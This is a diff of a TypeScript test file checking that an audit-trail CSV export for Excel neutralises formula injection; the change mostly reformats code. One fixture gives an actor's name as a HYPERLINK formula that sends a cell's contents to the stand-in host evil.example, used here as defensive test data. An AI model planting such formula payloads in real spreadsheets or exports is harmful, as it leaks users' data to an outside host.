@@ -2,9 +2,9 @@ import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import type { Deps } from '#shared/adapters/deps.ts';
+import { excelCsv } from '#shared/csv.ts';
 import type { AuditEvent } from '#shared/domain/consultation.ts';
 import { exportAudit } from '#shared/use-cases/audit.ts';
-import { excelCsv } from '#shared/csv.ts';
 
 const BOM = [0xef, 0xbb, 0xbf];
 /** What a spreadsheet reads as the start of a formula (ASCII, full-width, and the tab and CR before them). */
@@ -54,12 +54,26 @@ describe('Excel-bound CSV', () => {
 
   it('exports the audit trail as an Excel-bound file, an actor’s typed name neutralised', async () => {
     const trail: AuditEvent[] = [
-      { at: '2026-01-05T01:02:03.000Z', eventId: 'e1', actor: { userId: 'u', name: '=HYPERLINK("http://evil.example/?"&A1)', role: 'department' }, action: '提出', detail: '件名,「公金」\n2行目', sourceIp: '127.0.0.1' },
+      {
+        at: '2026-01-05T01:02:03.000Z',
+        eventId: 'e1',
+        actor: { userId: 'u', name: '=HYPERLINK("http://evil.example/?"&A1)', role: 'department' },
+        action: '提出',
+        detail: '件名,「公金」\n2行目',
+        sourceIp: '127.0.0.1',
+      },
       { at: '2026-01-05T01:02:04.000Z', eventId: 'e2', actor: { userId: 'workflow', name: 'ワークフロー', role: 'system' }, action: '状態:受付審査中' },
     ];
     const consultation = { number: { fiscalYear: 2026, n: 7 }, form: { title: '公金収納' } };
-    const deps = { consultations: { get: async () => consultation, auditTrail: async () => trail }, clock: { now: () => new Date() } } as unknown as Pick<Deps, 'consultations' | 'clock'>;
-    const { csv: file, fileName } = await exportAudit(deps, { userId: 's', name: '山下 潤', role: 'secretariat', councilId: 'c', departmentId: undefined }, { councilId: 'c', consultationId: 'k' });
+    const deps = { consultations: { get: async () => consultation, auditTrail: async () => trail }, clock: { now: () => new Date() } } as unknown as Pick<
+      Deps,
+      'consultations' | 'clock'
+    >;
+    const { csv: file, fileName } = await exportAudit(
+      deps,
+      { userId: 's', name: '山下 潤', role: 'secretariat', councilId: 'c', departmentId: undefined },
+      { councilId: 'c', consultationId: 'k' },
+    );
     expect(fileName).toMatch(/^操作記録_.*7.*\.csv$/);
     expect([...file.subarray(0, 3)]).toEqual(BOM);
     expect(read(file)).toEqual([
